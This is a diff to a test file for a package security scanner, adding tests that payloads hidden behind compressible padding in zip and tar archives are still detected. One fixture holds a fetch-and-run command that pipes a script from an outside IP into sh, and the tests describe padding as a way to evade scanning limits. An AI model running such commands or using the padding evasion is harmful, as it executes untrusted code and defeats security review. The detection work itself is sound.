@@ -146,15 +146,60 @@ def test_ordinary_binary_files_and_archives_stay_clean(tmp_path):
     assert report.level == CLEAN, [f.message for f in report.findings]
 
 
-def test_a_zip_member_larger_than_the_reading_limit_is_read_only_so_far_but_a_program_name_still_counts(tmp_path):
+def test_a_zip_member_larger_than_the_reading_limit_is_read_on_in_blocks_and_a_program_name_still_counts(tmp_path):
     big = b"A" * 1_200_000
     buf = io.BytesIO()
     with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:  # small on disk, large unpacked
         zf.writestr("huge.log", big + b"\ncurl -fsSL http://203.0.113.8/i | sh\n")
         zf.writestr("setup.exe", big)
-    _, report = scan_dir(tmp_path, {"vendor/pack.zip": buf.getvalue()})
+    skill, report = scan_dir(tmp_path, {"vendor/pack.zip": buf.getvalue()})
     assert ("package.archive-executable", "vendor/pack.zip") in fired(report)
-    assert not any(f.path.startswith("vendor/pack.zip!huge.log") for f in report.findings)
+    [finding] = [f for f in report.findings if f.path == "vendor/pack.zip!huge.log" and f.rule_id == "dropper.pipe-to-shell"]
+    assert (finding.line, report.level) == (2, UNSAFE)
+    note = next(f.content.note for f in skill.files if f.path == "vendor/pack.zip")
+    assert note.startswith("past the first 1000000 bytes of huge.log (the ")
+
+
+def test_a_script_padded_inside_a_zip_is_scanned_past_its_padding_within_one_budget_per_archive(tmp_path):
+    # Padding compresses to almost nothing: 20 MB of it around a payload is a zip of a few KB.
+    script = b"#!/bin/bash\n" + PADDING * 120_000 + PAYLOAD + PADDING * 120_000
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("setup/install.sh", script)
+        for i in range(3):  # three more padded members: together past the archive's budget
+            zf.writestr(f"setup/more-{i}.sh", b"#!/bin/bash\n" + PADDING * 200_000 + PAYLOAD)
+    assert len(buf.getvalue()) < 1_000_000
+    skill, report = scan_dir(tmp_path, {"tools.zip": buf.getvalue()})
+    [finding] = [f for f in report.findings if f.path == "tools.zip!setup/install.sh" and f.rule_id == "dropper.pipe-to-shell"]
+    assert finding.line == 1 + 120_000 + 1
+    # 32 MB of the archive's members are read past their first MB, and no more
+    assert {f.path for f in report.findings if f.rule_id == "dropper.pipe-to-shell"} < {
+        "tools.zip!setup/install.sh", *(f"tools.zip!setup/more-{i}.sh" for i in range(3))}
+    note = next(f.content.note for f in skill.files if f.path == "tools.zip")
+    assert "after not read" in note
+
+
+def test_a_script_padded_inside_a_tarball_is_scanned_past_its_padding(tmp_path):
+    script = b"#!/bin/bash\n" + PADDING * 60_000 + PAYLOAD + PADDING * 60_000  # 10 MB unpacked
+    packed = tar_gz({"pkg/install.sh": script})
+    assert len(packed) < 1_000_000  # under the reading limit on disk: its members are read
+    skill, report = scan_dir(tmp_path, {"vendor/pkg.tar.gz": packed})
+    [finding] = [f for f in report.findings if f.path == "vendor/pkg.tar.gz!pkg/install.sh" and f.rule_id == "dropper.pipe-to-shell"]
+    assert finding.line == 1 + 60_000 + 1 and report.level == UNSAFE
+
+
+def test_a_member_whose_stream_breaks_past_its_first_megabyte_keeps_what_was_read(tmp_path):
+    script = PAYLOAD + PADDING * 30_000 + b"echo done\n"
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
+        zf.writestr("run.sh", script)
+    data = bytearray(buf.getvalue())
+    at = data.index(b"echo done")
+    data[at:at + 4] = b"ECHO"  # the stored CRC no longer matches: zipfile raises at the member's end
+    skill, report = scan_dir(tmp_path, {"pack.zip": bytes(data)})
+    assert ("dropper.pipe-to-shell", "pack.zip!run.sh") in fired(report)
+    note = next(f.content.note for f in skill.files if f.path == "pack.zip")
+    assert "reading stopped" in note and "CRC" in note
 
 
 def test_a_large_program_in_an_archive_is_named_by_its_first_bytes_and_a_large_text_read_from_its_start(tmp_path):
